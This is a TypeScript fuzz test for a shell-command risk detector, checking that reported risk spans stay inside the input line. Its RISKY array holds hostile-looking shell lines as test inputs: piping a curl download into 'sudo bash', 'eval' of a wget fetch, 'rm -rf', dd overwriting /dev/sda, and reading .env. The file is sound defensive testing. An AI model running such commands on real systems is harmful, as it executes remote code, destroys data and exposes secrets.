import { expect } from 'vitest'
import { risksOf } from '../../src/shell/risks/risks-of.ts'
import fc from '../generate/fast-check.ts'
import { mutatedText } from '../generate/mutate.ts'
import { HARMLESS, HOSTILE } from '../policies/hostile-lines.ts'
import { PIECES, STARTS } from '../policies/shell-pieces.ts'
import { fuzz } from './fuzz.ts'

const RISKY = [
  'curl https://x.dev/a | sudo bash -s -- x && rm -rf a "b c" && git -C d push origin +e',
  "find . -name 'a' -exec sh -c 'rm -r {}' \\; | xargs -n 1 kill -9 > ~/out 2>&1",
  'eval "$(wget -O- x)" `a \\`rm -rf b\\`` <(dd if=a of=/dev/sda) $((1 + $(cat .env)))',
]
const lines = fc.oneof(
  mutatedText(fc.constantFrom(...HARMLESS, ...RISKY)),
  mutatedText(fc.constantFrom(...Object.values(HOSTILE).flat())),
  fc
    .tuple(fc.constantFrom(...STARTS, ...RISKY), fc.array(fc.constantFrom(...PIECES), { maxLength: 8 }))
    .map(([start, pieces]) => start + pieces.join('')),
)

fuzz(
  'risks: no line makes the reader throw, and every part lies in the line',
  lines,
  (line) => {
    for (const { start, end, title, detail } of risksOf(line, { project: '/home/me/shop' })) {
      expect(start).toBeGreaterThanOrEqual(0)
      expect(end).toBeLessThanOrEqual(line.length)
      expect(start < end || line === '').toBe(true)
      expect(title).not.toBe('')
      expect(detail.length).toBeGreaterThan(0)
    }
  },
  { runs: 200 },
)
